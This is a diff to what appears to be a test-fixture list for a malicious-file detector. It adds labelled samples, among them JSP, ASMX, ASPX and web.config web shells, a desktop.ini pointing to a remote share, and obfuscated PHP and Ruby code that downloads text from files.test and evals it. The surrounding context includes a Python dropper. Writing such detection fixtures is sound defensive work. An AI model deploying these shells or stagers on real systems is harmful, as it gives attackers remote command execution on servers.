@@ -90,4 +90,46 @@ export const servers: readonly Suspect[] = [
     ['script_drops_fetched_program'],
     'import urllib.request as r,tempfile,os,subprocess\np=os.path.join(tempfile.gettempdir(),"svchost.exe")\nopen(p,"wb").write(r.urlopen("https://files.test/w").read())\nsubprocess.Popen([p],creationflags=0x08000000)\n',
   ),
+  text(
+    'loader.jsp',
+    'malicious',
+    ['script_is_web_shell'],
+    '<%!class V extends ClassLoader{V(ClassLoader p){super(p);}public Class make(byte []q){return super.defineClass(q,0,q.length);}}%><%if(request.getMethod().equals("POST")){Cipher d=Cipher.getInstance("AES");byte[] z=Base64.getDecoder().decode(request.getReader().readLine());new V(this.getClass().getClassLoader()).make(d.doFinal(z)).newInstance();}%>',
+  ),
+  text(
+    'svc.asmx',
+    'malicious',
+    ['script_is_web_shell'],
+    '<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services; using System.Diagnostics;\npublic class S : WebService { [WebMethod] public string Do(string line) { var i = new ProcessStartInfo("cmd.exe", "/c " + line) { RedirectStandardOutput = true }; return Process.Start(i).StandardOutput.ReadToEnd(); } }\n',
+  ),
+  text(
+    'encoded.aspx',
+    'malicious',
+    ['script_is_web_shell'],
+    '<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Form["k"])),"unsafe");%>',
+  ),
+  text(
+    'web.config',
+    'malicious',
+    ['script_is_web_shell'],
+    '<?xml version="1.0"?><configuration><system.webServer><handlers><add name="w" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" requireAccess="Write"/></handlers></system.webServer></configuration><!-- <% Set s = CreateObject("WScript.Shell") : Response.Write s.Exec("cmd /c " & Request.QueryString("q")).StdOut.ReadAll() %> -->',
+  ),
+  text(
+    'desktop.ini',
+    'malicious',
+    ['pointer_leads_to_share'],
+    '[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.7\\icons\\a.ico,0\r\n',
+  ),
+  text(
+    'tangled.php',
+    'suspicious',
+    ['script_runs_downloaded_text'],
+    '<?php goto a1; b2: $p = $f("\\150\\x74\\164\\x70\\163://files.test/a.txt"); goto c3; a1: error_reporting(0); goto d4; c3: eval("?>" . $p); goto e5; d4: $f = "\\146\\x69\\154\\x65_get_contents"; goto b2; e5: ?>',
+  ),
+  text(
+    'stage.rb',
+    'suspicious',
+    ['script_runs_downloaded_text'],
+    "require 'open-uri'\nrequire 'zlib'\nrequire 'base64'\neval(Zlib::Inflate.inflate(Base64.decode64(URI.open('https://files.test/s').read)))\n",
+  ),
 ]
